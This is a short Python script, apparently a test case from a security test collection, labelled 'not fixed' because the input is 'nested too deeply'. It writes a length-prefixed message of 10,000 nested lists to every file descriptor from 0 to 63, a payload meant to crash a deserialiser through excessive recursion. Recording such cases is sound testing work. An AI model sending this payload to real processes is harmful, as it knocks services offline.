"""Sends lists within lists within lists.

verdict: not fixed
because: nested too deeply
"""

import os
import struct

message = b"l\1\0\0\0" * 10_000 + b"N"
for descriptor in range(64):
    try:
        os.write(descriptor, struct.pack("<I", len(message)) + message)
    except OSError:
        pass
